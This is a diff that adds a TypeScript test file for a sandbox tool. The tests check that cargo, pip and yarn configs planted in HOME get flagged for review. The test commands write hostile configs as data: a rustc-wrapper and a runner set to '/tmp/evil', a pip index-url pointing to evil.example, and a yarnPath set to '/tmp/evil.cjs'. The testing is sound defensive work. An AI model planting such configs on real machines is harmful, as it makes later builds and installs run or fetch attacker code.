@@ -1,0 +1,63 @@
+// Real sandboxes, as root and as an unprivileged user: a command that plants a tool's own
+// config, which makes a later cargo build, pip install or yarn on the host run a command or
+// fetch code from elsewhere (a rustc wrapper, an index url, a yarnPath). Kept, the next use of
+// the tool outside any sandbox would do what the command wrote: the review flags each with
+// the tool's name (docs/security.md, "What the review can hide"). The canary is the HOME sbx
+// runs with (the home rules see it through sensitiveContext), or a tool dir the environment
+// moved (CARGO_HOME). A project's own .yarnrc.yml is ordinary.
+import * as assert from 'uvu/assert';
+import { test } from 'uvu';
+import { existsSync, mkdirSync } from 'node:fs';
+import { makeCanary, makeStore, proveIsolation, removeCanary, removeStore, sbx as run, type SbxResult } from '../helpers/sbx.js';
+
+const store = makeStore();
+let canary = '';
+test.before.each(() => { canary = makeCanary(); });
+test.after.each(() => removeCanary(canary));
+test.after(() => removeStore(store));
+
+const sbx = (args: string[], env: NodeJS.ProcessEnv): SbxResult => run(args, { store, timeoutMs: 120_000, env });
+const CARGO = 'cargo config (can name a compiler wrapper, a runner, aliases or a replacement registry)';
+const PIP = 'pip, setuptools or conda config (can name the index packages come from)';
+const YARN = 'yarn or pnpm user config (can name the registry and, yarnPath/yarn-path, the yarn that runs)';
+const flaggedLines = (out: string): string[] => out.split('\n').filter((l) => l.startsWith('! ')).map((l) => l.replace(/ +/g, ' '));
+
+test('a cargo config, a pip.conf and a .yarnrc.yml planted in HOME are each flagged with the tool\'s reason', () => {
+  const h = canary;
+  // A project the host has: its new file is listed on a line of its own.
+  mkdirSync(`${h}/proj`);
+  proveIsolation(canary, store);
+  const script = [
+    `mkdir -p ${h}/.cargo ${h}/.config/pip`,
+    `printf '[build]\\nrustc-wrapper = "/tmp/evil"\\n' > ${h}/.cargo/config.toml`,
+    `printf '[global]\\nindex-url = http://evil.example/simple\\n' > ${h}/.config/pip/pip.conf`,
+    `printf 'yarnPath: /tmp/evil.cjs\\n' > ${h}/.yarnrc.yml`,
+    // A project's own (what `yarn set version` writes): not flagged.
+    `printf 'yarnPath: .yarn/releases/yarn.cjs\\n' > ${h}/proj/.yarnrc.yml`,
+  ].join(' && ');
+  const r = sbx(['run', '-n', '--', 'sh', '-c', script], { HOME: h });
+  assert.is(r.code, 0, r.stderr);
+  const out = r.stdout + r.stderr;
+  assert.equal(flaggedLines(out).sort(), [
+    `! added: ${h}/.cargo/config.toml [! ${CARGO}]`,
+    `! added: ${h}/.config/pip/pip.conf [! ${PIP}]`,
+    `! added: ${h}/.yarnrc.yml [! ${YARN}]`,
+    '! 3 changes where code runs later (marked !): review them before keeping',
+  ].sort(), out);
+  assert.match(out, new RegExp(`added: +${h}/proj/\\.yarnrc\\.yml`), out);
+  assert.not.ok(existsSync(`${h}/.cargo/config.toml`));
+});
+
+test('a cargo config where the host\'s CARGO_HOME points is flagged; without it, listed plain', () => {
+  proveIsolation(canary, store);
+  const ch = `${canary}/cargo-home`;
+  const script = `mkdir -p ${ch} && printf '[target.x86_64-unknown-linux-gnu]\\nrunner = "/tmp/evil"\\n' > ${ch}/config.toml`;
+  const moved = sbx(['run', '-n', '--', 'sh', '-c', script], { CARGO_HOME: ch });
+  assert.is(moved.code, 0, moved.stderr);
+  assert.ok(flaggedLines(moved.stdout + moved.stderr).includes(`! added: ${ch}/config.toml [! ${CARGO}]`), moved.stdout + moved.stderr);
+  const plain = sbx(['run', '-n', '--', 'sh', '-c', script], { CARGO_HOME: '' });
+  assert.is(plain.code, 0, plain.stderr);
+  assert.equal(flaggedLines(plain.stdout + plain.stderr), [], plain.stdout + plain.stderr);
+});
+
+test.run();
